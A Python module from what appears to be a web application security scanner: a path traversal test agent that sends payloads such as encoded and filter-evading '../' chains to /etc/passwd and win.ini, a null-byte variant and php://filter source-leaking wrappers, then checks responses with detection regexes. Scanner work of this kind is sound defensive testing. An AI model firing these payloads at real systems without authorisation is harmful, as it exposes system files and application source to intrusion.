"""Files outside of where a value may lead: a known file of the system, or the application's own source."""

import re
from base64 import b64decode
from binascii import Error
from collections.abc import Iterator

from threatweaver_appsec.engine.agent import (
    About,
    Agent,
    Attempt,
    Nonce,
    PointAgent,
    Proof,
    Safety,
    Severity,
    Sight,
)
from threatweaver_appsec.engine.agents.attacks import Lead, excerpt, in_request, numeric, text_of
from threatweaver_appsec.engine.agents.compare import moved
from threatweaver_appsec.engine.messages import Exchange
from threatweaver_appsec.engine.points import Point, Where

UNIX = re.compile(r"^.{0,40}\broot:[^:\n]{0,120}:0:0:[^:\n]{0,80}:/[^:\n]{0,80}:/", re.MULTILINE)
WINDOWS = re.compile(r"^; for 16-bit app support|^\[(fonts|extensions|mci extensions)\]\r?$", re.MULTILINE)
SOURCE = re.compile(r"(?<![A-Za-z0-9+/])PD9[A-Za-z0-9+/]{20,}={0,2}")  # Base64 of <?
UP = "../" * 10
FILES = re.compile(
    r"file|path|page|include|doc|template|tpl|lang|dir|folder|img|image|view|content|load|module|read|show"
    r"|src|source|style|theme|download|attach|resource|url|layout|report|log|conf|name|target|action",
    re.IGNORECASE,
)
FILE = re.compile(r"[\w-]\.\w{2,4}$|/")

# A path that is absolute by itself, and leads up where something stands before it: /dir/ + /../../etc/passwd.
# Then ways around filters: what is left when ../ is taken out once, what is decoded twice, what ends early.
PLACES = (
    "/" + UP + "etc/passwd",
    UP + "etc/passwd",
    "/" + "....//" * 10 + "etc/passwd",
    "%2e%2e%2f" * 10 + "etc%2fpasswd",
    "file:///etc/passwd",
)
ENDS_EARLY = "/" + UP + "etc/passwd\0"
ON_WINDOWS = ("/" + UP + "windows/win.ini", "..\\" * 10 + "windows\\win.ini")


def file_shown(sight: Sight) -> Proof | None:
    """Return the proof that an answer has a known file of the server."""
    for exchange in sight.exchanges:
        for name, pattern in (("/etc/passwd", UNIX), ("win.ini", WINDOWS)):
            found = pattern.search(exchange.text)
            if found and not pattern.search(sight.baseline.text):
                return Proof(
                    says=f"The answer has the content of the server's {name}.",
                    excerpt=excerpt(exchange.text, *found.span()),
                    exchanges=(exchange,),
                )
    return None


def _shows_source(sight: Sight) -> Proof | None:
    known = set(SOURCE.findall(sight.baseline.text))
    for exchange in sight.exchanges:
        for found in SOURCE.findall(exchange.text):
            try:
                code = b64decode(found + "=" * (-len(found) % 4)).decode("utf-8", "replace")
            except Error:
                continue
            if found not in known and code.startswith(("<?php", "<?=", "<? ")):
                return Proof(
                    says="A stream filter of PHP gave away a file's source.",
                    excerpt=code[:300],
                    exchanges=(exchange,),
                )
    return None


def _attempts(point: Point, baseline: Exchange, nonce: Nonce) -> Iterator[Attempt]:
    del baseline
    lead = Lead()
    value = text_of(point)
    named = bool(FILES.search(point.name) or FILE.search(value))

    def first(sight: Sight) -> Proof | None:
        other = any(moved(sight, one, value, PLACES[0]) for one in sight.exchanges)
        lead.known = {"file"} if other and named else set()
        return file_shown(sight)

    yield Attempt(PLACES[:1], first, (PLACES[0] + nonce.word(),))
    for place in _places(value):
        yield lead.only("file", Attempt((place,), file_shown, (place + nonce.word(),)))
    if point.where is not Where.PATH:  # servers refuse these before any application sees them
        ending = value.rpartition("/")[2].rpartition(".")[2] if "." in value else ""
        end = f"{ENDS_EARLY}.{ending}" if ending else ENDS_EARLY
        yield lead.only("file", Attempt((end,), file_shown, (end.replace("\0", nonce.word()),)))
    for name in dict.fromkeys((value or "index", "index.php", "index")):
        wrapped = "php://filter/convert.base64-encode/resource="
        yield lead.only("file", Attempt((wrapped + name,), _shows_source, (wrapped + nonce.word(),)))


def _places(value: str) -> Iterator[str]:
    folder = value.rpartition("/")[0]
    if folder:  # for what checks that a path begins where it should
        yield f"{folder}/{UP}etc/passwd"
    yield from (*PLACES[1:], *ON_WINDOWS)


def _names_file(point: Point, baseline: Exchange) -> bool:
    return in_request(point, baseline) and not numeric(point)


AGENTS: tuple[Agent, ...] = (
    PointAgent(
        About(
            id="path-traversal",
            title="Path traversal",
            cwe=22,
            owasp="A01:2021",
            severity=Severity.HIGH,
            safety=Safety.SAFE,
            description="A value becomes part of a file's path and can lead out of its folder: any file that"
            " the server may read can be read.",
            remedy="Choose files by an identifier out of a list; else resolve the path, and refuse what does"
            " not stand below the folder.",
        ),
        wants=_names_file,
        attempts=_attempts,
    ),
)
